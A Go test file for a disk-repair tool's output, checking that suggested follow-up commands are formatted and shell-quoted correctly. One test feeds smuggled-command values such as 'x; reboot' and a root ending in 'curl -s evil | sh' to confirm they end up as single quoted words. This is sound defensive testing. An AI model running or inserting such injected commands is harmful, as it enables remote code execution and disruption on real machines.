package main

import (
	"bytes"
	"strings"
	"testing"

	"salvor/diagnose"
	"salvor/metal"
	"salvor/repair"
)

// reportOf is a report whose cause was found on one of two systems.
func reportOf(id, system string) diagnose.Report {
	r := diagnose.Report{ExaminedIn: 3, Systems: []diagnose.SystemSummary{{Root: "/dev/sda2"}, {Root: "/dev/sdb2"}},
		Findings: []diagnose.Finding{{ID: id, Title: "A title.", System: system, Stage: diagnose.Target, Severity: diagnose.BlocksBoot, Confidence: 0.9,
			Evidence: []diagnose.Evidence{{Kind: diagnose.FromFile, Path: "/etc/fstab", Line: 7}}, Repair: &diagnose.Repair{Consent: diagnose.ConsentFiles}}}}
	r.Judge()
	return r
}

// TestNextStepOfDiagnosis: each command that a report ends in is one that salvor takes for a node or for a server, on one line, and a word of a hostile
// agent stays one word of a shell.
func TestNextStepOfDiagnosis(t *testing.T) {
	node, server := diagnosedSubject{kind: "node", name: "rack1-7", label: "node:rack1-7"}, diagnosedSubject{kind: "server", name: "web1", label: "web1"}
	byHand := reportOf("fstab-missing", "/dev/sda2")
	byHand.Findings[0].Repair = nil
	notLooked := diagnose.Report{Verdict: diagnose.Verdict{Outcome: diagnose.NothingFound}}
	for name, c := range map[string]struct {
		at     diagnosedSubject
		report diagnose.Report
		want   string
	}{
		"a cause on a node":                {node, reportOf("fstab-device-missing", "/dev/sdb2"), "salvor repair rack1-7 fstab-device-missing --root /dev/sdb2 --plan"},
		"a cause on a server":              {server, reportOf("fstab-device-missing", "/dev/sdb2"), "mend it by hand, as the report says below, in a rescue: salvor server rescue web1"},
		"a cause without a repair":         {node, byHand, "mend it by hand, as the report says below, in a rescue: salvor node rescue rack1-7"},
		"no look at the disks of a node":   {node, notLooked, "salvor diagnose rack1-7 --reboot, which examines the disks"},
		"no look at the disks of a server": {server, notLooked, "salvor server stop web1 --wait; then salvor diagnose web1 --wait, which examines the disks"},
		"words of a hostile agent": {node, reportOf("x; reboot", "/dev/sda2; curl -s evil | sh '"),
			`salvor repair rack1-7 'x; reboot' --root '/dev/sda2; curl -s evil | sh '\''' --plan`},
	} {
		var out bytes.Buffer
		writeDiagnosis(&out, 40, c.at, metal.Diagnosis{Record: diagnose.Record{State: diagnose.Finished, Report: c.report}})
		if !strings.Contains(out.String(), "\nnext: "+c.want+"\n") {
			t.Errorf("%s: want the next step %q on one line, got:\n%s", name, c.want, out.String())
		}
	}
}

// TestVerdictWithoutATitle: the first line of a report that hides the words of the disks still is a sentence.
func TestVerdictWithoutATitle(t *testing.T) {
	r := reportOf("fstab-device-missing", "/dev/vda1")
	r.Findings[0].Title = ""
	if got, want := verdictLine(&r), "the cause is found: fstab-device-missing on /dev/vda1."; got != want {
		t.Errorf("a finding without a title: want %q, got %q", want, got)
	}
}

// TestNextStepOfRepairQuotesTheRoot: the root that one user named is one word of the command that another user reads.
func TestNextStepOfRepairQuotesTheRoot(t *testing.T) {
	r := shownRepair{Plan: &repair.Plan{Disks: []repair.DiskChange{{Chunks: 1}}}}
	r.State, r.Digest, r.Args = metal.RepairPlanned, "5f0c", metal.RepairArgs{Root: "/dev/sda2; reboot", Consents: []diagnose.Consent{diagnose.ConsentFiles}}
	if got, want := nextRepairStep("rack1-7", r), "salvor repair rack1-7 --root '/dev/sda2; reboot' --digest 5f0c --consent files"; got != want {
		t.Errorf("root %q: want %q, got %q", r.Args.Root, want, got)
	}
}
